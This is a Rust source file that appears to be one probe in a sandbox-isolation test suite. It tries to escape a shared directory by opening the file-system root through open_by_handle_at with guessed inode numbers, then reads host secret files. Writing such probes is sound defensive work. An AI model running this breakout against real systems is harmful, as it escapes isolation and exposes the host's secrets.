//! Is a file reached by its number, past all paths?

use std::fs;
use std::os::fd::AsRawFd;

use crate::attempt::{Attempt, Control, Severity};
use crate::field::Field;
use crate::sys::{self, Arg};
use crate::token::Token;
use crate::tried::{NotApplicable, Tried};

pub(super) const ATTEMPT: Attempt = Attempt {
    id: "file-handle",
    class: "mounts",
    severity: Severity::Critical,
    control: Control::None("it takes power over the whole machine, which an open sandbox does not have here either"),
    about: "Opens the root of the file system below the shared directory by its handle, and reads secret files there.",
    make,
    ..Attempt::USUAL
};

fn make(field: &Field, _: &Token, tried: &mut Tried) -> Result<(), NotApplicable> {
    let directory = field.host.directory()?;
    let Some(mount) = tried.call("open", fs::File::open(directory)) else { return Ok(()) };
    // The root of most file systems is number 2, or 1 or 128; a handle without a generation.
    for (number, kind) in [(2_u32, 1_i32), (1, 1), (128, 1), (256, 1)] {
        let handle = [&8_u32.to_ne_bytes()[..], &kind.to_ne_bytes(), &number.to_ne_bytes(), &[0; 4]].concat();
        let [from, flags] = [mount.as_raw_fd() as u64, libc::O_RDONLY as u64].map(Arg::Number);
        let opened = sys::call(libc::SYS_open_by_handle_at, &mut [from, Arg::In(&handle), flags]).and_then(sys::owned);
        let Some(root) = tried.call(&format!("open {number}"), opened) else { continue };
        for secret in field.host.some(&field.host.secret_files, "host.secret_files")? {
            let below = format!("/proc/self/fd/{}{}", root.as_raw_fd(), secret.display());
            if let Some(bytes) = tried.call("read", fs::read(below)) {
                tried.output(&bytes);
            }
        }
    }
    Ok(())
}
